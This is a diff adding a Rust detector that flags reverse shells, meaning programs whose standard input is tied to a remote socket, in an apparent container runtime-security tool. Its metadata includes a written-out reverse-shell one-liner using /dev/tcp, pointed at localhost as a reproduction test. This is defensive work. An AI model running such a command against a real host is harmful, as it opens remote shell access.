@@ -1,0 +1,115 @@
+//! Reverse Shell.
+
+use detection::{Detector, Direction, Evidence, Metadata, ProbeNeed, Session, Settings, direction};
+use enrichment::channel::Route;
+use enrichment::{Actor, Enriched};
+use event::Object;
+use finding::{Severity, Tactic, Technique};
+use programs::invocation::Invocation;
+use std::sync::Arc;
+
+/// The detector.
+pub struct ReverseShell;
+
+static METADATA: Metadata = Metadata {
+    category: "Reverse Shell",
+    module: "REVERSE_SHELL",
+    severity: Severity::Critical,
+    on_by_default: true,
+    prose: "A program was started with its standard input bound to a remote socket, or a shell takes its commands \
+from a remote socket through another process.
+
+Recognised by where the program's standard input leads: to an internet socket at once, or through a pipe, a UNIX \
+socket or a pseudo-terminal whose other end is held by a process with such a socket. A shell without a socket of its \
+own must also send its output there. Also found: an interpreter with its program on the command line that holds a \
+remote socket and runs shell commands through pipes.
+
+Quiet for programs that an inetd-like server starts on a connection it accepted, unless they execute what they read; \
+for shells that the container runtime attaches (exec, attach); and for logins through an SSH server.",
+    tactic: Tactic::Execution,
+    techniques: &[Technique::UnixShell, Technique::CommandAndScriptingInterpreter],
+    additional_tactics: &[Tactic::CommandAndControl],
+    additional_technique_ids: &["T1095"],
+    evidence: &[
+        "program binary: path, size, SHA-256, bytes",
+        "arguments of the program and of the process that holds the socket",
+        "direction, both ends of the connection, transport, terminal",
+        "user, working directory, ancestry up to the container's first process",
+        "descriptors, memory map, environment (redacted), recent log lines of the pod",
+    ],
+    needs: &[ProbeNeed::Lifecycle, ProbeNeed::SocketState],
+    reproduction: "bash -c 'exec /bin/sh </dev/tcp/127.0.0.1/{PORT} >&0'",
+};
+
+impl Detector for ReverseShell {
+    fn metadata(&self) -> &'static Metadata {
+        &METADATA
+    }
+
+    fn detect(&self, enriched: &Enriched, settings: &Settings) -> Option<Evidence> {
+        if let Some(route) = enriched.input.as_ref().filter(|r| r.hops.is_empty()) {
+            return bound_to_socket(enriched, route, settings.parity);
+        }
+        if settings.parity {
+            return None;
+        }
+        if enriched.actor.takes_commands() {
+            let route = enriched.input.as_ref()?;
+            // a download piped into a shell has commands from the network, too, but nobody who reads the answers
+            let two_way =
+                !matches!(enriched.exec.descriptor(0)?.object, Object::Pipe { .. } | Object::Fifo { .. });
+            if !two_way && enriched.output.is_none() {
+                return None;
+            }
+            let reason = "The shell takes its commands from a process that holds an internet socket, and its output goes there.";
+            return Some(evidence(enriched, route, reason));
+        }
+        command_by_command(enriched)
+    }
+}
+
+/// Standard input is the socket itself.
+fn bound_to_socket(enriched: &Enriched, route: &Route, parity: bool) -> Option<Evidence> {
+    let served = direction(&route.endpoint) == Direction::Bind;
+    if served && !parity && !enriched.actor.takes_commands() {
+        return None; // what an inetd-like server starts
+    }
+    if enriched.ancestors.first().is_some_and(|p| matches!(p.kind, programs::executable::Kind::SshServer(_)))
+    {
+        return None;
+    }
+    Some(evidence(enriched, route, "The program's standard input is a remote socket."))
+}
+
+/// An interpreter with its program on the command line runs one shell per command and reads its output.
+fn command_by_command(enriched: &Enriched) -> Option<Evidence> {
+    let parent = enriched.ancestors.first()?;
+    if !enriched.actor.is_shell() || !matches!(parent.invocation, Invocation::InlineProgram { .. }) {
+        return None;
+    }
+    let route = enriched.output.as_ref().or(enriched.input.as_ref())?;
+    if route.hops.first()?.process != parent.process {
+        return None;
+    }
+    let reason = "An interpreter whose program was given on its command line holds an internet socket and runs shell commands through pipes.";
+    Some(evidence(enriched, route, reason))
+}
+
+fn evidence(enriched: &Enriched, route: &Route, reason: &str) -> Evidence {
+    let opener: Option<&Actor> = match route.hops.last() {
+        Some(hop) => enriched.relays.iter().find(|a| a.process == hop.process),
+        None => enriched.earlier.iter().find(|image| image.own).or(enriched.ancestors.first()),
+    };
+    Evidence {
+        metadata: &METADATA,
+        session: Session::of(Some(route), enriched.exec.process),
+        direction: direction(&route.endpoint),
+        endpoint: Some(route.endpoint),
+        opener: opener.cloned(),
+        tls: None,
+        terminal: route.terminal,
+        recognised_by: None,
+        reasons: vec![reason.into()],
+        enriched: Arc::new(enriched.clone()),
+    }
+}
